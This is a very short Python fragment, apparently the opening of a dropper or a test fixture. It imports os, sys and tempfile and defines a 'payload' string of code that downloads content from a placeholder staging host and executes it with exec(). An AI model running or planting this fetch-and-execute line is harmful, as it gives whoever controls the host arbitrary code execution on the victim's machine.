import os, sys, tempfile
payload = b"""from urllib.request import urlopen as u; exec(u('https://stage.example.invalid/p').read())"""
